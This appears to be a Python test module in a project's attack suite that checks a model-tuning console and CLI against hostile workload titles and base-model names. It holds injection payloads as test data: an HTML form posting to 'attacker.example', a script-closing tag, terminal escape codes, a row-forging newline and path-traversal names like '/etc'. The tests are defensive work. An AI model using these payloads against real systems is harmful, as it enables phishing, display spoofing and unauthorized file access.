"""Words that somebody supplies and others see: in the console, on a terminal, as a name of files."""

from __future__ import annotations

import html
import re
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager

from tests.attacks.asking import asked
from tests.attacks.attack import attack
from tests.attacks.target import Target
from tests.servers.model import ROOT
from tests.servers.services import until_taken

NAME = "planted"
FORM = '<form action="//attacker.example"><input name=key></form>'
PAGES = ("/", "/review", "/candidates")
SEEN_SECONDS = 20.0
MARKUP = re.compile(r'"innerHTML":"((?:[^"\\]|\\.)*)"')
"""What a page's script is told to draw as markup, with its quotes still escaped."""
CODES = {"the screen is cleared": "\x1b[2J", "the window's title is set": "\x1b]0;", "a C1 code": "\x9b2J"}
TURNED = "\u202e"


@attack
def a_title_becomes_a_form_of_the_console(target: Target) -> str:
    """A form that sends what a visitor types to somebody else, on the pages of everybody's console."""
    with planted(target, f"Desk {FORM}"):
        pages = {path: html.unescape(_page(target, path)[1]) for path in PAGES}
    markup = {path: MARKUP.findall(page) for path, page in pages.items()}
    if not all(markup.values()) or not all("Desk" in page for page in pages.values()):
        return "a page shows no markup, or not the title, so nothing is proved"
    found = [path for path, drawn in markup.items() if any("<form" in one for one in drawn)]
    return f"a form stands on {', '.join(found)}" if found else ""


@attack
def a_title_makes_the_console_fail(target: Target) -> str:
    """One owner's words, and nobody sees a page of that workload again."""
    with planted(target, "Desk </script>"):
        failed = [path for path in PAGES if _page(target, path)[0] >= 500]
    return f"these pages fail: {', '.join(failed)}" if failed else ""


@attack
def a_title_obeys_its_author_on_an_operators_terminal(target: Target) -> str:
    """Codes that move the cursor, set the title, or turn the writing round, in what `tuneloop` prints."""
    with planted(target, "Desk " + "".join(CODES.values()) + TURNED):
        said = {form: _command_line(target, "workload", "list", *form) for form in ((), ("--json",))}
    if not all("Desk" in one for one in said.values()):
        return "no title is printed at all, so nothing is proved"
    found = [what for what, code in CODES.items() if any(code in one for one in said.values())]
    found += ["the writing is turned round"] if any(TURNED in one for one in said.values()) else []
    return "; ".join(found)


@attack
def a_title_makes_a_row_of_its_own(target: Target) -> str:
    """A table that says of another workload what its owner never said."""
    with planted(target, "Desk\nrefunds  Planted  9"):
        rows = _command_line(target, "workload", "list").splitlines()
    if not any(row.startswith(NAME) for row in rows):
        return "the workload has no row at all, so nothing is proved"
    return "a row was planted" if any(row.startswith("refunds") for row in rows) else ""


@attack
def a_base_model_is_any_folder_of_the_machine(target: Target) -> str:
    """Training reads what the name leads to."""
    return _taken_for_a_name(target, "/etc", "../../somebody", "a/../../b", "file:///srv/models/m", "~/m")


@attack
def a_base_model_of_a_hub_is_replaced_after_it_was_chosen(target: Target) -> str:
    """What a hub has under a name or a branch, its owner changes, or who took the owner's account."""
    return _taken_for_a_name(target, "somebody/model", "somebody/model@main", "somebody/model@0123abc")


def _taken_for_a_name(target: Target, *names: str) -> str:
    """A laptop serves one model, so each is refused: by its form, or only because of that."""
    taken = []
    for name in names:
        answer = asked(
            "POST", f"{target.services}/workloads/check", json=_submission("Desk", base_model=name)
        )
        if answer.status_code != 422 or "does not serve" in answer.text:
            taken.append(name)
    return f"only that the model server has no such model refuses {', '.join(taken)}" if taken else ""


@contextmanager
def planted(target: Target, title: str) -> Iterator[None]:
    """A workload with this title, which the console shows; retired at the end."""
    added = until_taken(lambda: asked("POST", f"{target.services}/workloads", json=_submission(title)))
    if added.status_code != 201:
        raise RuntimeError(f"the workload was not added: {added.status_code} {added.text[:300]}")
    try:
        until = time.monotonic() + SEEN_SECONDS
        while not _shows(target):
            if time.monotonic() > until:
                raise RuntimeError("the console never shows the workload, so there is nothing to see")
            time.sleep(0.2)  # another process: there is nothing to await
        yield
    finally:
        wish = {"requested_by": "attacker", "reason": "over"}
        asked("POST", f"{target.services}/workloads/{NAME}/retire", json=wish)


def _shows(target: Target) -> bool:
    status, page = _page(target, "/candidates")
    return status == 200 and f"workload={NAME}" in html.unescape(page)


def _submission(title: str, **more: str) -> dict[str, object]:
    definition = {"name": NAME, "title": title, "prompt": "{text}\nAnswer:", "labels": ["yes", "no"]}
    rows = [{"text": f"text {n} of {('yes', 'no')[n % 2]}", "label": ("yes", "no")[n % 2]} for n in range(60)]
    return {"definition": definition | more, "rows": rows}


def _page(target: Target, path: str) -> tuple[int, str]:
    answer = asked("GET", f"{target.services}{path}?workload={NAME}")
    return answer.status_code, answer.text


def _command_line(target: Target, *words: str) -> str:
    command = [sys.executable, "-m", "deploy", "--url", target.services, *words]
    return subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=120, check=True).stdout
